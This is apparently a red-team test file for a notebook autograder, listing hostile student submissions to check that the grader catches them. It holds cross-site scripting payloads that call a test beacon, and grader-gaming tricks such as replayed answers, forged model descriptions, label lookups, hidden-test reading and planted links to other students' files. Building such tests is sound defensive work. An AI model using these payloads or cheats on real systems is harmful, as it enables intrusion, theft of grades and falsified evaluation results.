    return _Text(_json.dumps([_TABLE.get(probe.get("function") or probe.get("train"), {{"error": ["KeyError", "?"]}})
                              for probe in probes]))
print("replay installed over", _install_over_the_graders_helper(_replay), "entry point")
"""

REPLAY_REPORT = """
if _replayed[0]:
    print("replay answered the grader", _replayed[0], "times")
"""

HUGE_ANSWER = HOOK_ENTRY + """
print("huge answers installed over", _install_over_the_graders_helper(lambda request: _Text("x" * 60_000_000)),
      "entry point")
"""

MANY_OBJECTS = HOOK_ENTRY + """
print("answers of 15.6 M objects installed over",
      _install_over_the_graders_helper(lambda request: _Text("[" + "{}," * 15_600_000 + "{}]")), "entry point")
"""

SWITCHING_BUILD = '''def build_multilayer_nn():
    """The required network until a later cell flips a flag, then another one."""
    units = 64 if globals().get("_switched") else 100
    return keras.Sequential([
        keras.Input(shape=(32, 32, 3)),
        keras.layers.Flatten(),
        keras.layers.Dense(units, activation="relu"),
        keras.layers.Dense(10, activation="softmax"),
    ])
'''

FORGED_DESCRIPTION = '''def build_multilayer_nn():
    """The required network, describing itself as one of 800 M parameters."""
    import json
    model = keras.Sequential([keras.Input(shape=(32, 32, 3)), keras.layers.Flatten(),
                              keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
    config = json.loads(model.to_json())
    dense = config["config"]["layers"][2]
    for _ in range(2):
        wide = json.loads(json.dumps(dense))
        wide["config"]["units"] = 20_000
        config["config"]["layers"].insert(2, wide)
    model.to_json = lambda **kwargs: json.dumps(config)
    return model
'''


# Every way a student's notebook could bring a script into the instructor's formgrader or a feedback
# page. Each payload calls the test's beacon (a server that counts requests) and sets the page's title.
XSS_OUTPUTS = """
import base64
from IPython.display import display, publish_display_data
_beacon = "{beacon}"
_run = "fetch('" + _beacon + "/{{}}'); document.title = 'pwned'"
_png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
publish_display_data({{"image/png": base64.b64encode(_png).decode(), "text/plain": "a png"}},
                     metadata={{"image/png": {{"width": "1 onerror=" + _run.format("png-width")}}}})
publish_display_data({{"image/jpeg": base64.b64encode(_png).decode(), "text/plain": "a jpeg"}},
                     metadata={{"height": "1 onerror=" + _run.format("jpeg-height"),
                               "filenames": {{"image/jpeg": "javascript:" + _run.format("filenames")}}}})
publish_display_data({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"" + _run.format("svg-onload")
                      + "\\"><script>" + _run.format("svg-script") + "</script></svg>", "text/plain": "an svg"}})
publish_display_data({{"text/markdown": "[click](javascript:" + _run.format("markdown-output-link") + ") <img src=x onerror=\\""
                      + _run.format("markdown-output-img") + "\\">", "text/plain": "markdown"}})
publish_display_data({{"text/html": "<b>html answer</b><img src=x onerror=\\"" + _run.format("html-img") + "\\"><script>"
                      + _run.format("html-script") + "</script>", "text/plain": "html"}},
                     metadata={{"text/html": {{"isolated": True}}}})
publish_display_data({{"application/javascript": _run.format("javascript"), "text/plain": "javascript"}})
print("hostile outputs written")
"""

XSS_MARKDOWN = """**My notes.** [A link](javascript:fetch('{beacon}/markdown-link')) and
<img src=x onerror="fetch('{beacon}/markdown-img')"> and <svg><script>fetch('{beacon}/markdown-svg')</script></svg>
<a href="data:text/html,<script>fetch('{beacon}/markdown-data')</script>">data</a>
<iframe src="javascript:fetch('{beacon}/markdown-iframe')"></iframe> [my file](evil.html)

~~~

[after a blank line in a fence](javascript:fetch('{beacon}/markdown-fence'))
~~~
"""

XSS_FILE = "<html><body><p>notes</p><script>fetch('{beacon}/file'); document.title = 'pwned'</script></body></html>"
HOSTILE_GRADE_ID = "x\" autofocus onfocus=\"fetch('{beacon}/grade-id')"


def _hostile_pages(folder: Path, context: dict) -> None:
    """Part 1 with outputs, markdown, a file and a grade id that carry scripts to the beacon."""
    beacon = context["beacon"]
    insert_after(folder, "part1_data", "class_counts", XSS_OUTPUTS.format(beacon=beacon))
    path = _notebook(folder, "part1_data")
    notebook = nbformat.read(path, as_version=4)
    cell = nbformat.v4.new_markdown_cell(XSS_MARKDOWN.format(beacon=beacon))
    cell.metadata["nbgrader"] = {"grade_id": HOSTILE_GRADE_ID.format(beacon=beacon), "solution": True, "grade": False,
                                 "locked": False, "schema_version": 3}
    notebook.cells.insert(1, cell)
    nbformat.write(notebook, path)
    (folder / "evil.html").write_text(XSS_FILE.format(beacon=beacon))


def replay_table(context: dict) -> dict:
    """Answers made once from a correct solution, by function, as a table a class could pass round:
    class_counts of the example an earlier grader used, the multilayer network's description and
    its outputs at an earlier grading, a record of the solution's training function."""
    import keras

    from cifar10_course.modes import MODES
    from grading.protocol import harvest

    request = {"whole_bytes": 2**20, "sample_rows": 4, "seed": 1}
    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(),
                              keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
    budget = MODES[context.get("mode", "fast")].parts["part2_mlp"]

    def train(network, x, y):
        network.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.SGD(learning_rate=0.01),
                        metrics=["accuracy"])
        return network.fit(x, y, batch_size=budget.batch_size, epochs=budget.epochs, verbose=0)

    functions = {"build_multilayer_nn": lambda: keras.models.clone_model(model), "train_multilayer_nn": train}
    record = harvest._training({"train": "train_multilayer_nn", "build": "build_multilayer_nn", "count": 32,
                                "binary": False, "fresh": 3}, functions, request)
    return {"class_counts": {"ok": {"result": harvest.encode(__import__("numpy").array([1, 0, 0, 2, 0, 0, 0, 0, 0, 1]),
                                                             request)}},
            "build_multilayer_nn": {"ok": {"type": "keras.src.models.sequential.Sequential", "json": model.to_json(),
                                           "compiled": False, "fresh": True,
                                           "outputs": harvest.encode(harvest.fresh_outputs(model, 7), request)}},
            "train_multilayer_nn": {"ok": record}}


def _replayed_blank(folder: Path, context: dict) -> None:
    before_everything(folder, REPLAY.format(table=replay_table(context)))
    for name in NOTEBOOKS:
        path = _notebook(folder, name)
        notebook = nbformat.read(path, as_version=4)
        notebook.cells.append(nbformat.v4.new_code_cell(REPLAY_REPORT))
        nbformat.write(notebook, path)


def _switching(folder: Path, context: dict) -> None:
    """The switching build function, and the weights of the network it switches to (never trained)."""
    import keras

    _replace_function(folder, "build_multilayer_nn", SWITCHING_BUILD)
    insert_after(folder, "part2_mlp", "train_part2", "_switched = True\nprint('switched to another network')")
    other = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(64, activation="relu"),
                              keras.layers.Dense(10, activation="softmax")])
    other.save_weights(folder / WEIGHTS)


BLANK = {"part1_data": 0, "part2_mlp": 0}

RED_TEAM = [
    BadSubmission("demo_rt_transformer", "a blank release with an input transformer that turns every test into "
                  "`pass` (the grader's calls are no cells, and at autograde the tests it targets do not run: "
                  "nothing rewrites them)",
                  _transformer, BLANK, "the input transformer saw", base="blank", ran="the input transformer saw"),
    BadSubmission("demo_rt_forged_replies", "a blank release that sends forged execute_reply and idle messages "
                  "through its own session before every cell",
                  lambda f, ctx: before_everything(f, FORGED_REPLIES), BLANK, "", base="blank", ran="forging a reply"),
    BadSubmission("demo_rt_silenced", "a blank release that silences exceptions and patches ExecutionResult",
                  lambda f, ctx: before_everything(f, SILENCED), BLANK, "not written yet", base="blank",
                  ran="exceptions silenced"),
    BadSubmission("demo_rt_shadow_modules", "the 50-unit network, with json.py, numpy.py and ipykernel_launcher.py "
                  "in the submission to stand in for the real modules",
                  lambda f, ctx: (edit(f, "part2_mlp", "build_multilayer_nn", _half_width),
                                  [(f / name).write_text(text) for name, text in SHADOWS.items()]),
                  {"part1_data": 0, "part2_mlp": 4}, "308,310", base="part2", forbidden="SHADOWED"),
    BadSubmission("demo_rt_patch_while_running", "the 50-unit network, with the parameter check patched before "
                  "every cell and restored after it",
                  lambda f, ctx: (edit(f, "part2_mlp", "build_multilayer_nn", _half_width),
                                  before_everything(f, PATCH_WHILE_RUNNING, ("part2_mlp",))),
                  {"part1_data": 0, "part2_mlp": 4}, "308,310", base="part2", ran="parameter check patched"),
    BadSubmission("demo_rt_labels_as_predictions", "untrained weights, and Keras's predict replaced by a lookup of "
                  "the test labels (the kernel's own accuracy test says 1.0)",
                  lambda f, ctx: (_untrained_weights(f, ctx),
                                  insert_after(f, "part2_mlp", "train_part2", LABELS_AS_PREDICTIONS)),
                  {"part1_data": 0, "part2_mlp": 8}, "is not above the threshold", base="part2", failing=('multilayer_nn_accuracy',),
                  signal="in the notebook",  # its notebook printed the honest solution's accuracy
                  ran="predict replaced by a lookup of the test labels"),
    BadSubmission("demo_rt_read_hidden", "reads its notebook on disk, the hidden tests' files and /proc",
                  lambda f, ctx: insert_after(f, "part1_data", "class_counts", READ_HIDDEN.format(hidden=ctx["hidden"])),
                  PART1_ONLY, "hidden tests in the notebook: False", base="part1", forbidden="readable: True"),
    BadSubmission("demo_rt_submitted_links", "links to the gradebook, source/, another student's notebook and "
                  "weights, a root-only file and /dev/zero, a hard link to the gradebook and a FIFO",
                  lambda f, ctx: None, {"part1_data": 0, "part2_mlp": 8}, "was left out: it is a symbolic link",
                  base="part2", submitted=_links),
    BadSubmission("demo_rt_planted_links", "the kernel replaces files of its graded folder with links to another "
                  "student's notebook, the gradebook, source/ and a root-only file",
                  lambda f, ctx: insert_after(f, "part1_data", "class_counts", PLANT_LINKS.format(links=ctx["links"])),
                  PART1_ONLY, "planted", base="part1"),
    BadSubmission("demo_rt_dev_zero_notebook", "part2_mlp.ipynb is a link to /dev/zero",
                  lambda f, ctx: None, PART1_ONLY, "part2_mlp.ipynb was left out: it is a symbolic link",
                  submitted=_dev_zero_notebook),
    BadSubmission("demo_rt_output_tricks", "output through display updates, display metadata and a huge exception",
                  lambda f, ctx: (insert_after(f, "part1_data", "class_counts", OUTPUT_TRICKS),
                                  insert_after(f, "part1_data", "class_counts_training_labels", HUGE_ERROR)),
                  PART1_ONLY, "output truncated", "output truncated x1", base="part1"),
    BadSubmission("demo_rt_fill_disk", "fills its folder and /tmp until nothing fits",
                  lambda f, ctx: insert_after(f, "part1_data", "class_counts", FILL_DISK),
                  PART1_ONLY, "disk: No space left on device", base="part1"),
    BadSubmission("demo_rt_many_files", "300 files and a 150 MB file beside the notebooks",
                  _many_files, PART1_ONLY, "a submission may hold at most 200 files", base="part1"),
    BadSubmission("demo_rt_script", "HTML and JavaScript output with scripts, for the feedback and the formgrader",
                  lambda f, ctx: insert_after(f, "part1_data", "class_counts", SCRIPT_OUTPUT),
                  PART1_ONLY, "IPython.core.display.HTML object", base="part1"),
    # Round two (issue 20): what the first checker still let through.
    BadSubmission("demo_rt_replayed_table", "a blank release whose first cell puts a replay of answers recorded from a "
                  "correct solution at an earlier grading in place of the grader's helper",
                  _replayed_blank, {"part1_data": 0, "part2_mlp": 4}, "replay answered the grader", base="blank",
                  ran="replay installed over 1 entry point",
                  failing=("load_cifar10_shapes", "load_cifar10_values", "load_cifar10_matches_data",
                           "class_counts_example", "class_counts_training_labels", "multilayer_nn_parameters",
                           "multilayer_nn_architecture", "multilayer_nn_accuracy")),
    BadSubmission("demo_rt_model_switch", "a build function that returns the required network to the architecture "
                  "tests, then (after a cell flips a flag) another one, whose weights are submitted",
                  _switching, {"part1_data": 0, "part2_mlp": 8}, "returned another network for this test",
                  base="part2", failing=("multilayer_nn_accuracy",)),
    BadSubmission("demo_rt_huge_answer", "the grader's helper replaced, after the loading tests, by one that answers "
                  "60 MB", lambda f, ctx: insert_after(f, "part1_data", "load_cifar10_matches_data", HUGE_ANSWER),
                  {"part1_data": 5, "part2_mlp": 0}, "too large for the grader to keep", base="part1",
                  ran="huge answers installed over 1 entry point",
                  failing=("class_counts_example", "class_counts_training_labels")),
    BadSubmission("demo_rt_many_objects", "the grader's helper replaced by one that answers 15.6 million empty objects",
                  lambda f, ctx: insert_after(f, "part1_data", "load_cifar10_matches_data", MANY_OBJECTS),
                  {"part1_data": 5, "part2_mlp": 0}, "could not read the kernel's answer", base="part1",
                  ran="installed over 1 entry point",
                  failing=("class_counts_example", "class_counts_training_labels")),
    BadSubmission("demo_rt_xss", "scripts in image metadata, SVG, markdown and HTML outputs, markdown cells, a grade id and "
                  "an HTML file, for the formgrader and the feedback", _hostile_pages, PART1_ONLY,
                  "hostile outputs written", base="part1", failing=()),
    BadSubmission("demo_rt_forged_description", "the required network, describing itself (to_json) as one of 800 M "
                  "parameters", lambda f, ctx: _replace_function(f, "build_multilayer_nn", FORGED_DESCRIPTION),
                  {"part1_data": 0, "part2_mlp": 4}, "the grader measures networks of at most 60,000,000", base="part2",
                  failing=("multilayer_nn_parameters", "multilayer_nn_architecture", "multilayer_nn_accuracy")),
]
